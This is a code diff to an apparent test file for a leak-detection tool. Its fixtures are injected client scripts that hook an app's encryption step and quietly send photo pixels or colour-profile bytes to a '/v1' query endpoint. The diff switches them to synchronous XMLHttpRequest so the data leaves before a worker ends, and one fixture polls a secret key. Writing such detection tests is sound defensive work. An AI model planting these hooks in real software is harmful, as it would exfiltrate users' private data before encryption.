@@ -15,7 +15,9 @@ import { search } from './lib/search.mjs';
 const FILE = 'Überfahrt nach Vardø, geheim-7c1e.png';
 const PROFILE = 'camera 9d3b of Vardø';
 
-// What the recorder appends to a delivered script, and what the search must then find.
+// What the recorder appends to a delivered script, and what the search must then find. A worker that computes may end before a
+// `fetch` of its own has left, so leaks there wait for the answer.
+const ask = '(url) => { const asking = new XMLHttpRequest(); asking.open("GET", url, false); asking.send(); }';
 const inKeeper = (leak) => `
   const spying = setInterval(() => {
     const secret = keys?.secret();
@@ -44,10 +46,11 @@ const leaks = [
   [
     'a row of pixels in base64',
     '/client/compute.js',
-    `const plain = ops.encryptor;
+    `const ask = ${ask};
+     const plain = ops.encryptor;
      ops.encryptor = (job) => {
        const row = String.fromCharCode(...job.photo.samples.subarray(300, 360));
-       fetch('/v1?t=' + encodeURIComponent(btoa(row)));
+       ask('/v1?t=' + encodeURIComponent(btoa(row)));
        return plain(job);
      };`,
     /pixels/,
@@ -66,9 +69,10 @@ const leaks = [
   [
     'the colour profile in a query',
     '/client/compute.js',
-    `const plain = ops.finish;
+    `const ask = ${ask};
+     const plain = ops.finish;
      ops.finish = (job) => {
-       if (job.colour) fetch('/v1?c=' + encodeURIComponent(btoa(String.fromCharCode(...job.colour.subarray(140, 300)))));
+       if (job.colour) ask('/v1?c=' + encodeURIComponent(btoa(String.fromCharCode(...job.colour.subarray(140, 300)))));
        return plain(job);
      };`,
     /colour profile/,
